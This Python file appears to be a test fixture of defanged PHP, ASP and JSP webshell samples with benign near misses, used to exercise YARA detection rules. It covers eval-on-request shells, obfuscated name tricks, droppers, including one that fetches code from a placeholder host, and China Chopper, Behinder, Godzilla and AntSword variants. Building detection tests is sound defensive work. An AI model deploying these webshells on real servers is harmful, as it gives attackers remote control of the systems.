"""Synthetic samples of the PHP webshell rules: generic, obfuscation, China Chopper, Behinder,
Godzilla, AntSword (hits and near misses).

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import BLOB, Sample

PHP_SAMPLES: tuple[Sample, ...] = (
    # --- generic PHP ---------------------------------------------------------------------------
    Sample(
        "php_webshell_eval_request",
        True,
        "helper.php",
        "<?php\n// maintenance helper\nif (isset($_PO§ST['k'])) {\n    @ev§al(stripslashes($_PO§ST['k']));\n}\n",
    ),
    Sample(
        "php_webshell_eval_request",
        True,
        "hdr.php",
        "<?php as§sert($_SER§VER['HTTP_X_CODE']); ?>\n",
    ),
    Sample(
        "php_webshell_eval_request",
        True,
        "cmd.php",
        "<?php echo '<pre>'; sys§tem($_GE§T['c']); echo '</pre>'; ?>\n",
    ),
    Sample(
        "php_webshell_eval_request",
        False,
        "calc.php",
        "<?php\nrequire 'calc.php';\n$result = $calc->eval($_POST['expr']);\necho htmlspecialchars($_POST['name']);\n",
    ),
    Sample("php_webshell_request_function_call", True, "f.php", "<?php @$_GE§T['f']($_PO§ST['c']); ?>\n"),
    Sample(
        "php_webshell_request_function_call",
        False,
        "route.php",
        "<?php\n$handler = $handlers[$_GET['action']] ?? null;\nif ($handler) { $handler($request); }\n",
    ),
    Sample(
        "php_webshell_preg_replace_e",
        True,
        "pr.php",
        "<?php echo preg_rep§lace(\"/.*/e\", $_PO§ST['c'], 'x'); ?>\n",
    ),
    Sample(
        "php_webshell_preg_replace_e",
        False,
        "slug.php",
        "<?php\n$slug = preg_replace('/[^a-z0-9]+/i', '-', strtolower($_POST['title']));\necho $slug;\n",
    ),
    Sample(
        "php_webshell_create_function_request",
        True,
        "cf.php",
        "<?php $f = create_func§tion('', $_RE§QUEST['code']); $f(); ?>\n",
    ),
    Sample(
        "php_webshell_create_function_request",
        False,
        "sort.php",
        "<?php\n$cmp = create_function('$a,$b', 'return $a - $b;');\nusort($items, $cmp);\n",
    ),
    Sample(
        "php_webshell_callback_request",
        True,
        "cb.php",
        "<?php call_user_f§unc('as§sert', $_PO§ST['x']); ?>\n",
    ),
    Sample(
        "php_webshell_callback_request",
        True,
        "map.php",
        "<?php array_m§ap($_GE§T['f'], array($_PO§ST['x'])); ?>\n",
    ),
    Sample(
        "php_webshell_callback_request",
        False,
        "tags.php",
        "<?php\n$clean = array_map('trim', $_POST['tags']);\nusort($rows, 'cmp_rows');\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        True,
        "w.php",
        "<?php file_put_con§tents($_PO§ST['n'], base64_decode($_PO§ST['d'])); ?>\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        True,
        "up.php",
        "<?php\nmove_uploaded_f§ile($_FILES['f']['tmp_name'], 'uploads/' . $_FI§LES['f']['name']);\necho 'ok';\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        False,
        "avatar.php",
        "<?php\n$name = bin2hex(random_bytes(8)) . '.jpg';\n"
        "move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name);\n",
    ),
    Sample(
        "php_webshell_known_kits",
        True,
        "wso.php",
        '<?php\n$auth_p§ass = "63a9f0ea7bb98050796b649e85481845";\n$color = "#df5";\n'
        "$default_ac§tion = 'Files§Man';\nfunction run($c) { return shell_e§xec($c); }\n",
    ),
    Sample(
        "php_webshell_known_kits",
        False,
        "blocklist.php",
        "<?php\n// names a malware scanner looks for: FilesMan, c99shell, r57shell\n"
        "$patterns = ['FilesMan', 'c99shell', 'r57shell'];\n",
    ),
    # --- PHP obfuscation -----------------------------------------------------------------------
    Sample(
        "php_obfuscated_eval_decoder",
        True,
        "o1.php",
        "<?php @ev§al(base64_de§code('ZWNobyAnaGVsbG8nOw==')); ?>\n",
    ),
    Sample(
        "php_obfuscated_eval_decoder",
        True,
        "o1x.php",
        '<?php @ev§al("\\x65\\x63\\x68\\x6f\\x20\\x27\\x68\\x69\\x27\\x3b"); ?>\n',
    ),
    Sample(
        "php_obfuscated_eval_decoder",
        False,
        "token.php",
        "<?php\n$json = base64_decode($token);\n$data = json_decode($json, true);\n",
    ),
    Sample(
        "php_obfuscated_decoder_chain",
        True,
        "o2.php",
        f"<?php\n$p = gzinf§late(base64_de§code('{BLOB}'));\nev§al($p);\n",
    ),
    Sample(
        "php_obfuscated_decoder_chain",
        False,
        "font.php",
        f"<?php\n$font = gzuncompress(base64_decode('{BLOB}'));\nfile_put_contents($cache, $font);\n",
    ),
    Sample("php_obfuscated_function_name", True, "o3.php", "<?php $f = 'as'§.'sert'; $f($_POST['x']); ?>\n"),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o4.php",
        "<?php $f = str_rot13('nff§reg'); $g = strrev('tre§ssa');§ $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o5.php",
        "<?php $f = chr(97)§.chr(115).chr(115).chr(101).chr(114).chr(116);§ $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o6.php",
        "<?php $f = \"\\x61\\x73§\\x73\\x65\\x72\\x74\"; $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        False,
        "labels.php",
        "<?php\n$label = 'Assert' . 'ions';\n$encoded = base64_encode('system');\n$r = strrev('hello');\n",
    ),
    # --- PHP techniques (php_techniques.yar) ----------------------------------------------------
    Sample(
        "php_small_request_to_sink",
        True,
        "run.php",
        "<?php\n$p = $_CO§OKIE['k'];\nfunction run($x) { return sys§tem($x); }\nrun($p);\n",
    ),
    Sample(
        "php_small_request_to_sink",
        True,
        "page.php",
        "<?php\nsession_start();\n$_SESSION['f'] = $_PO§ST['f'];\n@incl§ude $_SESSION['f'];\n",
    ),
    Sample(
        "php_small_request_to_sink",
        False,
        "hits.php",
        "<?php\n$id = (int) $_GET['id'];\n$pdo->exec('UPDATE news SET hits = hits + 1 WHERE id = ' . $id);\n"
        "include 'footer.php';\n",
    ),
    Sample(
        "php_small_request_to_sink",
        False,
        "router.php",
        "<?php\n$page = $_GET['p'] ?? 'home';\n$file = __DIR__ . '/pages/' . basename($page) . '.php';\n"
        "if (is_file($file)) {\n    include $file;\n}\n",
    ),
    Sample(
        "php_small_request_callback",
        True,
        "sort.php",
        "<?php\n$a = array($_RE§QUEST['k'], '1');\nus§ort($a, 'as' . 'se§rt');\n",
    ),
    Sample(
        "php_small_request_callback",
        False,
        "tags.php",
        "<?php\n$tags = array_map('trim', explode(',', $_POST['tags'] ?? ''));\nusort($tags, 'strcmp');\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        True,
        "n.php",
        "<?php\n$f = 'sy' . 'st' . 'em';\n$f($_GE§T['c']);\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        False,
        "fmt.php",
        "<?php\n$cb = $formatters[$_GET['as'] ?? ''] ?? 'strval';\necho $cb($value);\n",
    ),
    Sample(
        "php_request_to_sink_nearby",
        True,
        "hdr2.php",
        "<?php\n$cmd = getenv('HTTP_X_§CMD');\necho sh§ell_exec($cmd);\n",
    ),
    Sample(
        "php_request_to_sink_nearby",
        False,
        "count.php",
        "<?php\n$n = (int) ($_GET['n'] ?? 0);\nassert($n >= 0);\necho str_repeat('*', $n);\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        True,
        "ob.php",
        "<?php\nob_st§art('ass§ert');\necho $payload;\nob_end_flush();\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        True,
        "sorter.php",
        "<?php\n$a = array($payload, '1');\nuas§ort($a, $_GE§T['f']);\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        True,
        "v.php",
        "<?php\n@extract($_REQ§UEST);\n$f = $_GE§T['f'];\n@$f($k);\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        False,
        "gz.php",
        "<?php\nob_start('ob_gzhandler');\necho 'Hello';\nob_end_flush();\n",
    ),
    Sample(
        "php_encoded_payload_eval",
        True,
        "enc.php",
        f"<?php\n$c = base64_de§code('{BLOB}');\n@ev§al($c);\n",
    ),
    Sample(
        "php_encoded_payload_eval",
        False,
        "logo.php",
        f"<?php\n$img = base64_decode('{BLOB}');\nheader('Content-Type: image/png');\necho $img;\n",
    ),
    Sample(
        "php_image_polyglot",
        True,
        "avatar.gif.php",
        "GIF89a\x01\x00\x01\x00\n<?php @ev§al($_PO§ST['x']); ?>\n",
    ),
    Sample(
        "php_image_polyglot",
        False,
        "photo.php",
        "GIF89a\x01\x00\x01\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta/>\n",
    ),
    Sample(
        "php_small_dropper",
        True,
        "save.php",
        "<?php\n$n = $_RE§QUEST['n'];\n$h = fo§pen($n, 'w');\nfwrite($h, base64_decode($_POST['d']));\nfclose($h);\n",
    ),
    Sample(
        "php_small_dropper",
        True,
        "get.php",
        "<?php\nfile_put_con§tents(__DIR__ . '/images/thumb.ph§tml', file_get_contents('http://example.invalid/s.txt'));\n",
    ),
    Sample(
        "php_small_dropper",
        False,
        "visits.php",
        "<?php\n$line = date('c') . ' ' . ($_GET['page'] ?? '') . \"\\n\";\n"
        "file_put_contents(__DIR__ . '/visits.log', $line, FILE_APPEND);\n",
    ),
    Sample(
        "php_nonalnum_shell",
        True,
        "x.php",
        "<?php\n$_=('!'^'@').(','^'_').('-'^'^').('>'^'[').('['^')').(']'^')');\n"
        "$__='_'.('+'^'{').('`'^'/').('.'^'}').('/'^'{');\n$___=$$§__;\n@$_($§___['_']);\n",
    ),
    Sample(
        "php_nonalnum_shell",
        False,
        "under.php",
        "<?php\n$_ = $_GET;\n$__ = 'strval';\necho htmlspecialchars($__($_['q'] ?? ''));\n",
    ),
    Sample(
        "php_request_sink_shell_traits",
        True,
        "fm.php",
        "<?php\n@error_reporting(0);\n@set_time_limit(0);\n"
        "echo php_uname() . getcwd() . ini_get('disable_functions');\n?>\n"
        + "<table>"
        + "".join(f"<tr><td>row {i}</td><td>{'x' * 40}</td></tr>\n" for i in range(120))
        + "</table>\n"
        "<?php\nclass Box { public $c; }\n$b = new Box();\n$b->c = $_PO§ST['k'];\n"
        "function run($o) { return shell_e§xec($o->c . ' 2>&1'); }\necho run($b);\n",
    ),
    Sample(
        "php_request_sink_shell_traits",
        False,
        "probe.php",
        "<?php\n@set_time_limit(0);\n$tab = $_GET['tab'] ?? 'os';\n"
        "echo php_uname() . ' ' . getcwd() . ' ' . ini_get('disable_functions');\n"
        "echo '<pre>' . htmlspecialchars((string) shell_ex§ec('uptime 2>&1')) . '</pre>';\n",
    ),
    Sample(
        "php_name_synthesis_call_medium",
        True,
        "theme.php",
        "<?php\n"
        + "".join(
            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
            for i in range(60)
        )
        + "$f = '!#%&()' §^ 'RZVRMD';\n@$f($_PO§ST['x']);\n",
    ),
    Sample(
        "php_name_synthesis_call_medium",
        False,
        "mask.php",
        "<?php\n"
        + "".join(
            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
            for i in range(60)
        )
        + "$mask = 'abc' ^ 'xyz';\n$render = $renderers[$_GET['r'] ?? ''] ?? 'strval';\necho $render($mask);\n",
    ),
    # --- China Chopper -------------------------------------------------------------------------
    Sample("china_chopper_php", True, "1.php", "<?php @ev§al($_PO§ST['chopper']);?>"),
    Sample("china_chopper_php", False, "greet.php", "<?php echo htmlspecialchars($_POST['chopper'] ?? ''); ?>\n"),
    Sample(
        "china_chopper_asp",
        True,
        "1.aspx",
        '<%@ Page Language="Jscript"%><%ev§al(Request.Item["pass"],"un§safe");%>',
    ),
    Sample("china_chopper_asp", True, "1.asp", '<%ev§al request("pass")%>'),
    Sample(
        "china_chopper_asp",
        True,
        "utf16.aspx",
        '<%@ Page Language="Jscript"%><%ev§al(Request.Item["pass"],"un§safe");%>',
        "utf-16",
    ),
    Sample(
        "china_chopper_asp",
        False,
        "echo.aspx",
        '<%@ Page Language="C#" %><% Response.Write(Server.HtmlEncode(Request.Item["pass"])); %>\n',
    ),
    Sample(
        "china_chopper_jsp",
        True,
        "customize.jsp",
        '<%@ page import="java.io.*" pageEncoding="UTF-8"%>\n<%\nString cs = "UTF-8";\n'
        'String Z = request.getParameter("pass");\n'
        'String z1 = request.getPara§meter("z1");\nString z2 = request.getPara§meter("z2");\n'
        'if (Z.equ§als("A")) { out.print(dirInfo()); }\nelse if (Z.equ§als("B")) { out.print(list(z1)); }\n'
        'else if (Z.equ§als("C")) { out.print(read(z1)); }\nelse if (Z.equ§als("D")) { write(z1, z2); }\n'
        'else if (Z.equ§als("E")) { delete(z1); }\nelse if (Z.equ§als("M")) { run(z1, z2); }\n%>\n',
    ),
    Sample(
        "china_chopper_jsp",
        False,
        "chart.jsp",
        '<%\nString z1 = request.getParameter("z1");\nString z2 = request.getParameter("z2");\n'
        'if (z1.equals("A")) { out.print(zoom(z1, z2)); }\n%>\n',
    ),
    Sample(
        "china_chopper_client_payload",
        True,
        "access.log",
        '198.51.100.7 - - [23/Nov/2026:02:11:09 +0800] "POST /upload/1.php HTTP/1.1" 200 12 '
        '"pass=@ev§al(base64_de§code($_PO§ST[z0]));&z0=QGluaV9zZX§QoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs"\n',
    ),
    Sample(
        "china_chopper_client_payload",
        False,
        "access_ok.log",
        '198.51.100.7 - - [23/Nov/2026:02:11:09 +0800] "POST /login.php HTTP/1.1" 302 0 "user=li&z0=1"\n',
    ),
    # --- Behinder ------------------------------------------------------------------------------
    Sample(
        "behinder_php",
        True,
        "bx.php",
        "<?php\n@error_reporting(0);\nsession_start();\n$key=\"e45e329f§eb5d925b\";\n$_SES§SION['k']=$key;\n"
        'session_write_close();\n$post=file_get_contents("php://in§put");\n'
        'if(!extension_loaded(\'openssl\')) {\n    $t="base64_".§"decode";\n    $post=$t($post."");\n'
        "    for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i§+1&15]; }\n"
        "} else {\n    $post=openssl_dec§rypt($post, \"AES128\", $key);\n}\n$arr=explode('|',$post);\n"
        'class C{public function __inv§oke($p) {ev§al($p."");}}\n@call_user_func(new C(),$arr[1]);\n',
    ),
    Sample(
        "behinder_php",
        False,
        "api.php",
        "<?php\n$body = file_get_contents('php://input');\n"
        "$plain = openssl_decrypt($body, 'AES-128-CBC', $secret, 0, $iv);\necho json_encode(['ok' => true]);\n",
    ),
    Sample(
        "behinder_jsp",
        True,
        "bx.jsp",
        '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>'
        "<%!class U extends Class§Loader{U(ClassLoader c){super(c);}"
        "public Class g(byte []b){return super.define§Class(b,0,b.length);}}%>"
        '<%if (request.getMethod().equals("POST")){String k="e45e329f§eb5d925b";'
        'session.putVa§lue("u",k);Cipher c=Cipher.getIns§tance("AES");'
        'c.init(2,new SecretKey§Spec(k.getBytes(),"AES"));'
        "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder()"
        ".decodeBuffer(request.getReader().readL§ine()))).newInstance().equals(pageCo§ntext);}%>",
    ),
    Sample(
        "behinder_jsp",
        False,
        "token.jsp",
        '<%@page import="javax.crypto.*,javax.crypto.spec.*"%><%\nCipher c = Cipher.getInstance("AES");\n'
        'c.init(2, new SecretKeySpec(secret, "AES"));\nString t = new String(c.doFinal(raw));\n%>\n',
    ),
    Sample(
        "behinder_aspx",
        True,
        "bx.aspx",
        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>'
        '<%Session.A§dd("k","e45e329f§eb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
        "c = Request.Binary§Read(Request.ContentLength);"
        "Assembly.Lo§ad(new System.Security.Cryptography.RijndaelManaged().CreateDecr§yptor(k, k)"
        '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
    ),
    Sample(
        "behinder_aspx",
        False,
        "cookie.aspx",
        '<%@ Page Language="C#" %><% var d = new System.Security.Cryptography.RijndaelManaged()'
        ".CreateDecryptor(k, iv); var plain = d.TransformFinalBlock(c, 0, c.Length); %>\n",
    ),
    # --- Godzilla ------------------------------------------------------------------------------
    Sample(
        "godzilla_php",
        True,
        "gz.php",
        "<?php\n@session_start();\n@set_time_limit(0);\nfunction encode($D,$K){\n"
        "    for($i=0;$i<strlen($D);$i++) { $c = $K[$i§+1&15]; $D[$i] = $D[$i]^$c; }\n    return $D;\n}\n"
        "$pass='pass';\n$payload§Name='payload';\n$key='3c6e0b8a§9c15224a';\n"
        "if (isset($_POST[$pass])){\n    $data=encode(base64_decode($_POST[$pass]),$key);\n"
        "    if (isset($_SESSION[$payload§Name])){\n        $payload=encode($_SESSION[$payload§Name],$key);\n"
        '        if (strpos($payload,"getBasics§Info")===false){ $payload=encode($payload,$key); }\n'
        "        ev§al($payload);\n        echo substr(md5($pass.§$key),0,16);\n    }\n}\n",
    ),
    Sample(
        "godzilla_php",
        False,
        "login.php",
        "<?php\n$token = substr(md5($pass . $salt), 0, 16);\n$_SESSION['user'] = $name;\n",
    ),
    Sample(
        "godzilla_jsp",
        True,
        "gz.jsp",
        '<%! String x§c="3c6e0b8a§9c15224a"; String pass="pass"; String md5=md5(pass+xc);\n'
        'public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");'
        'c.in§it(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);}'
        "catch (Exception e){return null;}}%>\n"
        "<%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);"
        'if (session.getAttri§bute("payload")==null){session.setAttribute("payload",new X(this.getClass()'
        '.getClassLoader()).Q(data));}else{request.setAttri§bute("parameters",data);'
        'Object f=((Class)session.getAttri§bute("payload")).newInstance();f.equals(pageCo§ntext);'
        "response.getWriter().write(md5.subs§tring(0,16));}}catch (Exception e){}%>\n",
    ),
    Sample(
        "godzilla_jsp",
        False,
        "cart.jsp",
        '<%\nObject cart = session.getAttribute("payload");\nout.print(cart == null ? "empty" : "items");\n%>\n',
    ),
    Sample(
        "godzilla_aspx",
        True,
        "gz.aspx",
        '<%@ Page Language="C#"%><%try { string key = "3c6e0b8a§9c15224a"; string pass = "pass";'
        " byte[] data = System.Convert.FromBase64String(Context.Request[pass]);"
        " data = new System.Security.Cryptography.RijndaelManaged().CreateDecr§yptor(k, k)"
        ".TransformFinalBlock(data, 0, data.Length);"
        ' if (Context.Session["pay§load"] == null) { Context.Session["pay§load"] = (System.Reflection.Assembly)'
        'typeof(System.Reflection.Assembly).GetMet§hod("Load", new System.Type[] { typeof(byte[]) })'
        ".Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)"
        'Context.Session["pay§load"]).CreateIns§tance("LY"); o.Equals(Context);'
        " Context.Response.Write(md5.Subs§tring(0, 16)); } } catch (System.Exception) { }%>",
    ),
    Sample(
        "godzilla_aspx",
        False,
        "session.aspx",
        '<%@ Page Language="C#"%><% var p = Session["payload"]; var d = aes.CreateDecryptor(k, iv); %>\n',
    ),
    # --- AntSword ------------------------------------------------------------------------------
    Sample(
        "antsword_php_shell",
        True,
        "ant.php",
        "<?php\n$ant = base64_de§code(\"YXNzZ§XJ0\");\n$ant($_PO§ST['ant']);\n?>\n",
    ),
    Sample(
        "antsword_php_shell",
        False,
        "render.php",
        "<?php\n$logo = base64_decode($row['logo']);\n$render($_POST['page']);\n",
    ),
    Sample(
        "antsword_php_payload",
        True,
        "payload.txt",
        '@ini_set("display_errors", "0");@set_time_limit(0);function ase§nc($out){return $out;};'
        'function asout§put(){$output=ob_get_contents();ob_end_clean();echo "6a2"."c26";echo @asenc($output);'
        'echo "ee"."0f";}ob_start();try{echo "ok";}catch(Exception $e){echo "ERROR://".$e->getMessage();};asoutput();',
    ),
    Sample(
        "antsword_php_payload",
        False,
        "assets.php",
        "<?php\nfunction asset_url($path) { return '/static/' . $path; }\nfunction as_output() { ob_start(); }\n",
    ),
)
